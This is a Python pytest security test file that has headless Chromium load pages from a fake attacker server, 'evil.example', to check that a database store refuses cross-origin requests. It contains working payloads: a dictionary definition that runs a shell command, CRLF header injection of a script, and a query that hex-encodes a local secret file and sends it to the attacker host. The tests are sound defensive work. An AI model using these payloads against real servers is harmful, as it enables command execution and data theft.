"""A page in a real browser tries what a page once could: to run commands through the store, and to
read files out of it.

The page is at ``http://evil.example``, which the browser finds on loopback. It even knows the
reader's password: what is tested is that a browser's requests are refused as such. Skipped where
there is no Chromium.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from starlette.types import Receive, Scope, Send

from stepstream.common.web.server import WebServer
from tests.security.store_server import Store, store

CHROMIUM = (
    shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
)
FLAGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
    "--host-resolver-rules=MAP evil.example 127.0.0.1",
]  # fmt: skip


class Evil:
    """The attacker's server: its page, and every other path that was asked for."""

    def __init__(self) -> None:
        self.page = ""
        self.reached: list[str] = []
        self._server = WebServer(self._answer, "127.0.0.1", 0)
        self._server.start("evil")
        self.url = f"http://evil.example:{self._server.port}"
        self.leak = f"http://127.0.0.1:{self._server.port}/leak?d="

    async def _answer(self, scope: Scope, _receive: Receive, send: Send) -> None:
        body = self.page if scope["path"] == "/" else ""
        if scope["path"] not in ("/", "/favicon.ico"):
            self.reached.append(scope["path"])
        headers = [(b"content-type", b"text/html"), (b"content-length", str(len(body)).encode())]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": body.encode()})

    def close(self) -> None:
        """Stop."""
        self._server.close()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """A Chromium with a profile of its own."""
    api = pytest.importorskip("playwright.sync_api", reason="the package playwright is not there")
    if CHROMIUM is None:
        pytest.skip("there is no Chromium on this machine")
    with api.sync_playwright() as driver:
        profile = tmp_path_factory.mktemp("profile")
        with driver.chromium.launch_persistent_context(
            profile, executable_path=CHROMIUM, args=FLAGS, headless=True
        ) as context:
            yield context


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """A store."""
    with store(tmp_path_factory.mktemp("pages")) as found:
        yield found


@pytest.fixture
def evil() -> Iterator[Evil]:
    """The attacker's server."""
    made = Evil()
    yield made
    made.close()


def target(running: Store, user: str, **parameters: str) -> str:
    """A URL of the store with a login that the page should not know."""
    login = {"user": user, "password": running.secrets[user]}
    return f"{running.url}/?{urlencode({**parameters, **login})}"


def test_a_page_runs_nothing_in_the_store_s_origin(
    browser: Any, running: Store, evil: Evil, tmp_path: Path
) -> None:
    """It goes to a URL whose answer would be a page with a script, in the store's own origin, and
    opens it in frames."""
    proof = tmp_path / "proof"
    dictionary = (
        f"CREATE DICTIONARY d (a String) PRIMARY KEY a SOURCE(EXECUTABLE(COMMAND 'id > {proof}; "
        "echo x' FORMAT 'TSV')) "
        "LAYOUT(COMPLEX_KEY_HASHED()) LIFETIME(0)"
    )
    script = (
        f"<script>fetch('/', {{method: 'POST', body: {dictionary!r}}}); fetch('{evil.url}/ran', "
        f"{{mode: 'no-cors'}})</script>"
    )
    split = target(
        running,
        "writer",
        query="SELECT 1",
        query_id=f"x\r\nContent-Type: text/html\r\n\r\n{script}",
    )
    shown = target(
        running, "writer", query=f"SELECT '{script.replace(chr(39), chr(34))}' FORMAT RawBLOB"
    )
    page = browser.new_page()
    for url in (split, shown):
        evil.page = (
            f"<iframe src='{quote(url, safe=':/?&=%')}'></iframe><script>setTimeout(() => location "
            f"= {url!r}, 300)</script>"
        )
        page.goto(evil.url)
        page.wait_for_url(f"{running.url}/**", wait_until="commit")
        page.wait_for_load_state("networkidle")
        assert (
            "403" in page.content()
            or "denied" in page.content().lower()
            or "web pages" in page.content()
        )
    # Typed by hand the query is answered, and the browser offers to save it: it takes it for no
    # page.
    with pytest.raises(Exception, match="Download is starting"):
        page.goto(shown)
    page.close()
    assert not proof.exists()
    assert evil.reached == []
    assert running.value("SELECT count() FROM system.dictionaries") == "0"


def test_a_page_reads_and_changes_nothing(
    browser: Any, running: Store, evil: Evil, tmp_path: Path
) -> None:
    """By images, scripts, styles, frames, forms, fetch and beacons, each by GET or by POST, with
    the writer's password."""
    secret = tmp_path / "secret"
    secret.write_text("the secret of the machine")
    leak = f"SELECT * FROM url(concat('{evil.leak}', hex(file('{secret}'))), CSV, 'x String')"
    schema = target(
        running, "writer", query="SELECT 1 AS x FORMAT Protobuf", output_format_schema=str(secret)
    )
    create = target(
        running, "writer", query="CREATE TABLE pwned (a Int8) ENGINE = MergeTree ORDER BY a"
    )
    reads = [target(running, "writer", query=leak), schema, create]
    tags = "".join(
        f"<img src='{one}'><script src='{one}'></script><link rel=stylesheet href='{one}'><iframe "
        f"src='{one}'></iframe>"
        for one in (quote(url, safe=":/?&=%") for url in reads)
    )
    action = quote(create, safe=":/?&=%")
    forms = (
        "<form id=f method=post enctype=multipart/form-data target=x "
        f"action='{action}'></form><iframe name=x></iframe>"
    )
    calls = "".join(
        f"fetch({url!r}, {{method: '{method}', mode: '{mode}', credentials: 'include'}}).then(a => "
        "a.text())"
        f".then(t => t && fetch('/read'), () => 0); navigator.sendBeacon({url!r}, 'SELECT 1');"
        for url in reads
        for method in ("GET", "POST")
        for mode in ("cors", "no-cors")
    )
    evil.page = f"{tags}{forms}<script>document.getElementById('f').submit(); {calls}</script>"
    page = browser.new_page()
    page.goto(evil.url)
    page.wait_for_load_state("networkidle")
    page.close()
    assert evil.reached == []
    assert secret.read_text() == "the secret of the machine"
    assert running.value("SELECT count() FROM system.tables WHERE name = 'pwned'") == "0"
